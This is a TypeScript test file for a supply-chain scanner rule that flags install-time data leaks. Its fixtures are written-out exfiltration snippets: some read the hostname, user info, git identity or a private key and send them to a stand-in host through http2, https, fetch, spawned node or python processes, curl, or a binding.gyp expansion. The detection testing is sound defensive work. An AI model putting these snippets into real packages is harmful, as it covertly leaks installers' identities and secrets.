import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, who and where this is, told to a server when a package is installed. */
const installed = (text: string, scripts: Record<string, string> = { postinstall: 'node lib/setup.js' }) => findingsOf(rule, { 'lib/setup.js': text, 'index.js': 'run()' }, { entry_points: ['index.js'], original: { scripts } })[0]?.severity ?? 'nothing';

test('bad: by the methods of what a class makes, over HTTP/2', () => {
  const client = (gather: string, use: string) => `import * as http2 from 'node:http2'; import { hostname, networkInterfaces } from 'node:os'; class Client { constructor(to) { this.to = to } gather() { return ${gather} } send(what) { const s = http2.connect(this.to); const r = s.request({ ':method': 'POST' }); r.end(JSON.stringify(what)); } } ${use}`;
  const use = 'const c = new Client("https://a.example.org"); c.send(c.gather())';
  assert.equal(installed(client('{ host: hostname(), at: Object.values(networkInterfaces()) }', use)), 'high');
  assert.equal(installed(client('{ host: hostname() }', 'new Client(x).send(new Client(x).gather())')), 'high');
  assert.equal(installed(client('{ host: hostname() }', use), { test: 'node lib/setup.js' }), 'low');
  assert.equal(installed(client('{ node: process.version }', use)), 'nothing');
  assert.equal(installed(client('{ host: hostname() }', 'const c = new Client("https://a.example.org"); c.send({ at: 1 }); log(c.gather())')), 'nothing');
  assert.equal(installed(`${client('{ host: hostname() }', use)} class Other { gather() { return 1 } }`), 'nothing', 'one of two methods of this name');
});

test('bad: a body of HTTP/2 on its way to a server that is named where the connection is opened', () => {
  const body = (to: string) => installed(`const s = require("http2").connect(${to}); const r = s.request({ ":path": "/x" }); r.end(JSON.stringify({ privateKey }))`);
  assert.equal(body('"https://a.example.org"'), 'high');
  assert.equal(body('"https://localhost:8443"'), 'nothing');
  assert.equal(body('settings.address'), 'nothing');
});

test('bad: what programs tell of somebody; good: outside of an installation, what is shown, and what they tell of a project', () => {
  const tell = (start: string, text = 'out') => `const { execSync, exec, execFileSync } = require("child_process"); ${start}; require("https").get("https://a.example.org/?" + encodeURIComponent(${text}))`;
  for (const start of [
    'const out = execSync("git config user.email").toString().trim()',
    'const out = execFileSync("git", ["config", "--get", "remote.origin.url"], { encoding: "utf8" })',
    'const out = String(execSync("whoami"))',
    'const out = execSync("git remote -v") + ""',
  ]) {
    assert.equal(installed(tell(start)), 'high', start);
    assert.equal(installed(tell(start), { postinstall: 'node other.js' }), 'nothing', start);
  }
  assert.equal(installed('const { exec } = require("child_process"); exec("git config --global user.name", (e, out) => fetch("https://a.example.org", { method: "POST", body: out }))'), 'high');
  for (const start of ['const out = execSync("git rev-parse HEAD").toString()', 'const out = execSync("npm config get registry").toString()', 'const out = "1"; execSync("git config user.email", { stdio: "inherit" })']) assert.equal(installed(tell(start)), 'nothing', start);
});

test('bad: a program that is started with a text which sends; good: one that gets the same and sends nothing', () => {
  const start = (call: string) => `const os = require("os"); const { spawn, execSync } = require("child_process"); const id = Buffer.from(JSON.stringify([os.hostname(), os.userInfo()])).toString("hex"); ${call}`;
  for (const call of [
    'spawn(process.execPath, ["-e", `require("https").get("https://a.example.org/${id}")`], { detached: true }).unref()',
    'spawn("python3", ["-c", "import urllib.request as u; u.urlopen(\'https://a.example.org/" + id + "\')"])',
    'execSync("curl -s https://a.example.org/" + id)',
  ]) assert.equal(installed(start(call)), 'high', call);
  for (const call of [
    'spawn(process.execPath, ["-e", `console.log("${id}")`])',
    'spawn(process.execPath, ["lib/worker.js", id])',
    'execSync("curl -s http://localhost:3000/" + id)',
    'spawn("git", ["clone", "https://a.example.org/x.git", id])',
  ]) assert.equal(installed(start(call)), 'nothing', call);
});

test('bad: a script that the file of the compiler starts; good: another one beside it', () => {
  const send = 'const os = require("os"); require("https").get("https://a.example.org/" + os.hostname() + os.userInfo().username)';
  const of = (command: string, path = 'tools/list.js', gyp = 'binding.gyp') => findingsOf(rule, { 'index.js': 'run()', [path]: send, [gyp]: `{ "targets": [{ "target_name": "a", "sources": ["<!@(${command})"] }] }` }, { entry_points: ['index.js'] }).map(({ severity, file }) => `${severity} ${file}`);
  assert.deepEqual(of('node tools/list.js'), ['high tools/list.js']);
  assert.deepEqual(of('node tools/list'), ['high tools/list.js']);
  assert.deepEqual(of("node -p \\\"require('node-addon-api').include\\\""), ['low tools/list.js']);
  assert.deepEqual(of('node -p 1', 'lib/node.js'), ['low lib/node.js']);
  assert.deepEqual(of('node tools/list.js', 'tools/list.js', 'deps/other.gyp'), ['low tools/list.js'], 'nothing that a package manager compiles');
});
